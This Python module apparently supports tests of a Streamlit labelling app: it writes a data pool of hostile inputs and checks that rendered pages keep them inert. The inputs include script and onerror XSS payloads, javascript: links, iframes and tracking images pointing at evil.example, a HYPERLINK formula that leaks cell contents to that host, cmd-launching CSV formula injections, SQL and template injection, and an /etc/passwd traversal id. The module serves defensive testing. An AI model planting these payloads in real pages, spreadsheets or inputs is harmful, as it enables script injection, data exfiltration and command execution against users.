"""A pool that would like to be more than text, and what a page must not make of it."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml

EVIL = "evil.example"
"""A host that nothing may ask for."""
MARK = "window.pwned"
"""A variable that is set where a script of the pool was carried out."""

TEXTS: dict[str, str] = {
    "script": f"<script>{MARK}=1</script>",
    "img": f"<img src=x onerror='{MARK}=2'>",
    "svg": f'"><svg onload="{MARK}=3">',
    "closing": f"</div></td></table><iframe src=https://{EVIL}/frame></iframe>",
    "style": "<style>* { display: none }</style>",
    "markdown_image": f"![pixel](https://{EVIL}/pixel.png)",
    "markdown_link": f"[click](javascript:{MARK}=4) <https://{EVIL}/a> https://{EVIL}/b",
    "addresses": f"see www.{EVIL}/c or write to mallory@{EVIL} or HTTP://{EVIL}",
    "markdown_blocks": "# heading\n- list\n> quote\n```\ncode\n| a | b |\n|---|---|",
    "directives": ":red[red] :material/home: :streamlit: :blue-background[x]",
    "latex": r"$\frac{1}{0}$ and $$\text{x}$$ cost $5 or $6",
    "entities": "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &copy",
    "ansi": f"\x1b[31mred\x1b[0m \x1b]8;;https://{EVIL}\x07link\x1b]8;;\x07",
    "one_line": "never ends " * 91_000,
    "right_to_left": "invoice \u202egnp.exe\u202c \u2067turned\u2069 \u200f",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd (1) [2]",
    "zero_width": "pass\u200bword\u2060 \ufeffhidden\u00ad",
    "nul": "before\x00after",
    "separators": "one\u2028two\u2029three\x85four",
    "formula_equals": f'=HYPERLINK("https://{EVIL}?"&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "quotes": "'; DROP TABLE items; -- \" ` \\ %s {0} {{ 7 * 7 }} ${7*7}",
}
IDS: dict[str, str] = {
    "script": f"<script>{MARK}=5</script>",
    "img": f"<img src=x onerror={MARK}=6>",
    "markdown_image": f"![id](https://{EVIL}/id.png)",
    "latex": "$x^2$ *id*",
    "formula_equals": "=1+1",
    "quotes": "a b?item=c&run=..#d%00\"'",
    "closing": "../../etc/passwd",
    "right_to_left": "id\u202e123",
}
"""Ids of some of the texts; the others have their names."""
LABELS: list[dict[str, str]] = [
    {"name": f"<img src=x onerror={MARK}=7>", "description": f"![d](https://{EVIL}/d.png)"},
    {"name": f"[label](https://{EVIL}/label)", "description": "<script>1</script> $x$"},
    {"name": "$money$ *star* `code` :red[x]", "description": "texts about money"},
    {"name": f"mallory@{EVIL} www.{EVIL}", "description": "texts about addresses"},
    {"name": "=1+1", "description": "texts about formulas"},
    {"name": "long " * 60, "description": "long " * 400},
    {"name": "plain", "description": "everything else"},
]
GUIDELINES = f"# Guide\n\n<script>{MARK}=8</script> ![g](https://{EVIL}/g.png) $x$"
PLAIN_TEXTS = 60
"""Texts without malice, so that there is something to learn from."""


def item_id(name: str) -> str:
    """The id of a text by its name."""
    return IDS.get(name, name)


def write_malicious(folder: Path, annotators: list[dict[str, Any]], **sections: Any) -> Path:
    """Write the pool and a run.yaml; returns the configuration."""
    rows = [{"id": item_id(name), "text": text} for name, text in TEXTS.items()]
    words = ("parcel", "invoice", "password", "lantern", "refund", "voucher", "courier", "receipt")
    rows += [
        {"id": f"plain-{n}", "text": f"{words[n % 8]} and {words[n // 8 % 8]} number {n}"}
        for n in range(PLAIN_TEXTS)
    ]
    folder.mkdir(parents=True, exist_ok=True)
    lines = [json.dumps(row, ensure_ascii=True) for row in rows]
    (folder / "pool.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    config = {
        "task": {"name": TEXTS["img"], "labels": LABELS, "guidelines": GUIDELINES},
        "data": {"path": "pool.jsonl", "id": "id"},
        "annotators": annotators,
        "selection": {"batch_size": len(rows)},
        "critic": {"audit_first": 10},
        "stopping": {"max_rounds": 1, "stop_set_size": 50},
        "budget": {"usd": 5},
        **sections,
    }
    path = folder / "run.yaml"
    path.write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
    return path


# What a page is made of, by whether the browser reads the string as Markdown.
_MARKDOWN_KINDS = (
    "markdown",
    "caption",
    "title",
    "header",
    "subheader",
    "info",
    "warning",
    "error",
    "success",
    "toast",
)
_LABELLED_KINDS = (
    "button",
    "button_group",
    "checkbox",
    "expander",
    "metric",
    "number_input",
    "radio",
    "selectbox",
    "tab",
    "text_input",
    "text_area",
    "toggle",
)
_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
_ALIVE = re.compile(
    r"<[a-z/!]|!\[|\]\(|javascript:|evil\.example|\$[^$\s][^$]*\$|:red\[|:material/|[\x00-\x08\x1b]"
    r"|[\u202a-\u202e\u2066-\u2069\u200b\ufeff]",
    re.IGNORECASE,
)
# What is made a link where Markdown is read, however it is escaped.
_LINK = re.compile(r"https?://[-.\w]|www\.[-.\w]|[-.\w+]@[-\w]+\.[-\w]", re.IGNORECASE)
_TAGS = frozenset(("div", "table", "thead", "tbody", "tr", "th", "td", "style", "span", "p", "br"))
_ATTRIBUTES = frozenset(("class", "dir"))


def alive(at: Any) -> list[str]:
    """What on a page is more than text: pieces of Markdown or HTML that came from the pool.

    Args:
        at: An `AppTest` that has run.

    Returns:
        One line for each element that is not inert; empty where all is well.
    """
    found = []
    for kind in _MARKDOWN_KINDS:
        for element in at.get(kind):
            found += _in_markdown(kind, str(element.value))
    for kind in _LABELLED_KINDS:
        for element in at.get(kind):
            proto = getattr(element, "proto", None)
            found += _in_markdown(f"label of {kind}", str(getattr(element, "label", "") or ""))
            found += _in_markdown(f"help of {kind}", str(getattr(proto, "help", "") or ""))
    for element in at.get("progress"):
        found += _in_markdown("progress", element.proto.text)
    for element in at.get("html"):
        found += _in_html(element.proto.body)
    return found


def texts_shown(at: Any) -> str:
    """The texts of all HTML blocks of a page, as a reader sees them."""
    return "\n".join(_Reader.read(element.proto.body).text for element in at.get("html"))


def _in_markdown(kind: str, source: str) -> list[str]:
    # A trusted phrase of the panel may be bold; everything of the pool is escaped.
    left = _ESCAPED.sub("", source)
    read = _ESCAPED.sub(lambda match: match.group()[1], source)
    matches = [*_ALIVE.finditer(left), *_LINK.finditer(read)]
    return [f"{kind}: {match.group()!r} in {source[:120]!r}" for match in matches]


def _in_html(source: str) -> list[str]:
    seen = _Reader.read(source)
    wrong = [f"html: <{tag}> in {source[:120]!r}" for tag in sorted(seen.tags - _TAGS)]
    return wrong + [f"html: {name}= in {source[:120]!r}" for name in seen.attributes - _ATTRIBUTES]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    @classmethod
    def read(cls, source: str) -> _Reader:
        reader = cls()
        reader.feed(source)
        reader.close()
        return reader

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data
